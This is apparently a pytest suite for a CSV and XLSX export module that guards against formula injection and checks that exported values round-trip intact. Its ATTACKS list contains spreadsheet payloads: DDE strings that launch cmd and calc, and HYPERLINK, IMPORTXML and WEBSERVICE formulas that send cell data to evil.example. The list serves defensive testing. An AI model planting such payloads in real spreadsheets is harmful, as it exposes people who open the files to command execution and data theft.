"""Lists on their way out: nothing that a spreadsheet would run, and everything as it was when it comes back."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fairlead.core.tabular import read_table, writing
from fairlead.core.tabular.formulas import guarded, unguarded
from fairlead.core.tabular.writing import Cell, Sheet, csv_chunks, write_workbook

MADE_AT = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)
MOMENT = datetime(2026, 11, 3, 9, 5, tzinfo=UTC).replace(tzinfo=None)

# What attackers put into names, notes and telephone fields.
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'\t=1+1",
    "\t\t",
    "=",
    "-",
    "+49 40 123456",
    '";=1+1;"',
    'x","=1+1',
    "-5",
    "%0A-3+3+cmd|' /C calc'!D2",
)  # fmt: skip
HARMLESS = (
    "", "Nordlicht GmbH", "O'Neill & Sons", "'s-Hertogenbosch", "a=b", "5-6", "穆勒公司", "名称＝甲", "'quoted'",
    "_x0041_", 'Tor "Süd"', "two\nlines", "a,b;c\td", "007", "1e5", "TRUE", "1.234", "3/4", "2026-11-03", "#N/A",
    "😀 lótus",
)  # fmt: skip


def as_csv(rows: Sequence[Sequence[Cell]], headings: Sequence[str] = ("Company", "Note")) -> bytes:
    return b"".join(csv_chunks(Sheet("List", headings, rows)))


def as_workbook(rows: Sequence[Sequence[Cell]], headings: Sequence[str] = ("Company", "Note")) -> bytes:
    stream = io.BytesIO()
    write_workbook(Sheet("List", headings, rows), stream, made_at=MADE_AT)
    return stream.getvalue()


def read_back(data: bytes) -> list[list[str]]:
    """Return the rows as our import sees them."""
    return [row.cells for row in read_table(io.BytesIO(data), "list").rows()]


def sheet_xml(data: bytes, number: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_text_file_begins_like_a_formula(attack: str) -> None:
    rows = list(csv.reader(io.StringIO(as_csv([[attack, attack]], ["A", attack]).decode("utf-8-sig"), newline="")))

    for cell in (rows[0][1], *rows[1]):
        assert not cell.startswith(tuple("=+-@\t\r\n＝＋－＠ ")), cell
        assert not cell.strip("\u00a0\u3000\u200b\ufeff \t\r\n").startswith(
            ("=", "+", "-", "@", "＝", "＋", "－", "＠")
        )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(attack: str) -> None:
    data = as_workbook([[attack, "x"]])

    xml = sheet_xml(data)
    assert "<f>" not in xml
    assert "hyperlink" not in xml
    assert re.findall(r'<c r="A2"[^>]* t="(\w+)"', xml) == (["inlineStr"] if attack.strip() else [])


def test_a_workbook_marks_dangerous_texts_as_texts_so_that_editing_one_makes_no_formula() -> None:
    data = as_workbook([["=1+1", "plain"]])

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()
    xml = sheet_xml(data)
    assert re.search(r'<c r="A2" s="\d"', xml)
    assert not re.search(r'<c r="B2" s="\d"', xml)


@pytest.mark.parametrize("write", [as_csv, as_workbook])
@pytest.mark.parametrize("text", [*ATTACKS, *HARMLESS])
def test_what_is_written_comes_back(write: Callable[[Sequence[Sequence[Cell]]], bytes], text: str) -> None:
    """Outer blanks aside, which no value has that we keep; and a lone CR ends a line like every other."""
    data = write([["Nordlicht", text], ["last", "row"]])

    company, read = read_back(data)[0]
    assert (company, read.strip()) == ("Nordlicht", text.strip())


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12))
def test_taking_the_guard_off_undoes_it_for_every_text(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(alphabet="'=+-@＝ \t\r\na1", max_size=8))
def test_texts_of_dangerous_characters_alone_come_back_too(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in tuple("=+-@＝\t\r\n")


def test_a_text_file_is_what_excel_and_the_standard_expect() -> None:
    data = as_csv([["穆勒公司", 'say "hi", twice'], ["Nordlicht", "two\nlines"]], ["公司", "备注"])

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '公司,备注\r\n穆勒公司,"say ""hi"", twice"\r\nNordlicht,"two\nlines"\r\n'
    table = read_table(io.BytesIO(data), "list.csv")
    assert (table.encoding, table.separator, table.header) == ("UTF-8", ",", ["公司", "备注"])


def test_figures_and_dates_of_a_text_file_are_written_plainly() -> None:
    rows = [[-12.5, date(2026, 11, 3)], [Decimal("1500.00"), MOMENT], [1.234, None]]

    assert as_csv(rows).decode("utf-8-sig").splitlines()[1:] == [
        "-12.5,2026-11-03",
        "1500.00,2026-11-03 09:05",
        "1.2340,",
    ]


def test_figures_and_dates_of_a_workbook_are_figures_and_dates() -> None:
    rows = [[-12.5, date(2026, 11, 3)], [Decimal("1500.00"), MOMENT], [7, date(1888, 8, 8)]]
    data = as_workbook(rows, ["Amount", "Day"])

    assert re.findall(r'<c r="A\d"[^>]*><v>([^<]+)</v>', sheet_xml(data)) == ["-12.5", "1500", "7"]
    assert read_back(data) == [["-12.5", "2026-11-03"], ["1500", "2026-11-03 09:05"], ["7", "1888-08-08"]]


def test_the_headings_of_a_workbook_stay_in_sight_and_its_columns_fit() -> None:
    rows = [["穆勒机械制造有限公司", "x"], ["short", "y" * 400]]

    xml = sheet_xml(as_workbook(rows))
    assert re.search(r'<pane ySplit="1".*state="frozen"', xml)
    widths = [float(width) for width in re.findall(r'<col [^>]*width="([\d.]+)"', xml)]
    assert 20 < widths[0] < 24
    assert 45 < widths[1] < 48


def test_a_list_without_rows_still_has_headings() -> None:
    assert as_csv([]).decode("utf-8-sig") == "Company,Note\r\n"
    assert read_table(io.BytesIO(as_workbook([])), "list.xlsx").header == ["Company", "Note"]


def test_a_list_longer_than_a_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "MOST_ROWS", 4)
    data = as_workbook([[f"Company {number}", ""] for number in range(7)])

    table = read_table(io.BytesIO(data), "list.xlsx")
    assert table.sheets == ["List", "List 2", "List 3"]
    further = read_table(io.BytesIO(data), "list.xlsx", "List 3")
    assert [row.cells[0] for row in further.rows()] == ["Company 6"]


def test_a_text_too_long_for_a_workbook_is_cut_and_not_lost() -> None:
    assert len(read_back(as_workbook([["Nordlicht", "x" * 40_000]]))[0][1]) == 32_767


@pytest.mark.parametrize("write", [as_csv, as_workbook])
def test_headings_that_look_like_formulas_come_back_as_well(write: Callable[..., bytes]) -> None:
    headings = ["=Company", "+Bonus", "'=Note"]

    assert read_table(io.BytesIO(write([["a", "b", "c"]], headings)), "list").header == headings


def test_a_name_that_no_sheet_may_have_is_made_one() -> None:
    stream = io.BytesIO()
    write_workbook(Sheet("To-dos: [all] of 'everybody' in the company", ["A"], []), stream, made_at=MADE_AT)

    with zipfile.ZipFile(stream) as archive:
        assert 'name="To-dos   all  of  everybody  in"' in archive.read("xl/workbook.xml").decode()


def test_a_long_list_needs_no_more_memory_than_a_short_one() -> None:
    def rows(number: int) -> Iterator[list[Cell]]:
        return ([f"Company {row}", "a note of some length " * 4] for row in range(number))

    def peak(number: int) -> int:
        tracemalloc.start()
        for _chunk in csv_chunks(Sheet("List", ["Company", "Note"], rows(number))):
            pass
        _size, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    assert peak(40_000) < 2 * peak(4_000)
